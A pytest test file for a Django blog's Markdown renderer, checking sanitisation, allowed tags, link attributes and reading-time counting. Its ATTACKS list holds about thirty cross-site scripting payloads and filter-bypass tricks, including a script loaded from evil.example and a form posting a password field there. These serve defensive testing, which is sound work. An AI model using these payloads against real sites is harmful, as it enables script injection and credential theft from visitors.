"""The HTML a post shows is sanitised, whatever the Markdown body holds."""

import re

import pytest

from blog.rendering import reading_minutes, render_markdown, unsafe_markup
from blog.tests.factories import PostFactory

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "[click](javascript:alert(1))",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<<img src=x onerror=alert(1)>img src=x onerror="alert(1)">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<body onload="alert(1)">',
    '<a href="#" onclick="alert(1)" onmouseover="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<!--><script>alert(1)</script>-->",
    '<img src="x" alt="a" {: onerror="alert(1)" }>',
]

_TAG = re.compile(r"<\s*([a-z0-9]+)([^>]*)>", re.IGNORECASE)
_ALLOWED = {
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "li",
    "ol",
    "p",
    "pre",
    "s",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}


def _assert_harmless(html: str) -> None:
    lowered = html.lower()
    assert "<script" not in lowered
    assert "javascript:" not in lowered
    assert "vbscript:" not in lowered
    assert "data:" not in lowered
    for tag, attributes in _TAG.findall(html):
        assert tag.lower() in _ALLOWED, html
        assert not re.search(r"\bon[a-z]+\s*=", attributes, re.IGNORECASE), html
        assert "style=" not in attributes.lower(), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_render_markdown_strips_every_attack(attack):
    html = render_markdown(f"Before\n\n{attack}\n\nAfter")

    _assert_harmless(html)
    assert "After" in html


def test_render_markdown_keeps_ordinary_formatting():
    body = (
        "## Redeem\n\n"
        "1. Open **Settings**\n2. Tap *Gift card*\n\n"
        "| region | value |\n| --- | --- |\n| TR | 100 |\n\n"
        "```python\nprint('ok')\n```\n\n"
        "![card](/media/blog/card.png)"
    )

    html = render_markdown(body)

    assert "<h2>Redeem</h2>" in html
    assert "<strong>Settings</strong>" in html
    assert "<ol>" in html
    assert "<table>" in html
    assert '<code class="language-python">' in html
    assert '<img alt="card" src="/media/blog/card.png">' in html


def test_links_get_noopener_noreferrer_nofollow():
    html = render_markdown("[shop](https://example.com/x) and <a href='/blog/y'>y</a>")

    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert 'href="https://example.com/x"' in html


def test_class_other_than_a_code_language_is_dropped():
    html = render_markdown('<code class="admin-button">x</code>')

    assert "class" not in html


def test_escaped_markup_stays_text():
    html = render_markdown("Type &lt;script&gt; to see nothing happen.")

    assert "&lt;script&gt;" in html
    assert "<script" not in html


@pytest.mark.parametrize(
    "body",
    [
        "<script>x</script>",
        "<ScRiPt>x",
        "< script>",
        '<img src=x onerror="alert(1)">',
        "[x](javascript:alert(1))",
        '<iframe src="x">',
        "<svg onload=alert(1)>",
        "<style>p{}</style>",
    ],
)
def test_unsafe_markup_is_spotted(body):
    assert unsafe_markup(body)


def test_ordinary_prose_is_not_unsafe():
    body = "Turn the card on. Prices: 10 = ten. A <b>bold</b> word; see https://x.io"

    assert unsafe_markup(body) is None


def test_reading_minutes_counts_words_at_the_configured_speed(settings):
    settings.BLOG_WORDS_PER_MINUTE = 100

    assert reading_minutes("word " * 250) == 3
    assert reading_minutes("") == 1


@pytest.mark.django_db
def test_post_renders_sanitised_html_however_it_is_saved():
    post = PostFactory(body="**ok** <img src=x onerror=alert(1)><script>x()</script>")

    post.refresh_from_db()

    assert "<strong>ok</strong>" in post.rendered_html
    _assert_harmless(post.rendered_html)


@pytest.mark.django_db
def test_changing_only_the_body_rerenders_the_html():
    post = PostFactory(body="first")
    post.body = "second " * 400

    post.save(update_fields=["body"])
    post.refresh_from_db()

    assert "second" in post.rendered_html
    assert "first" not in post.rendered_html
    assert post.reading_minutes == 2
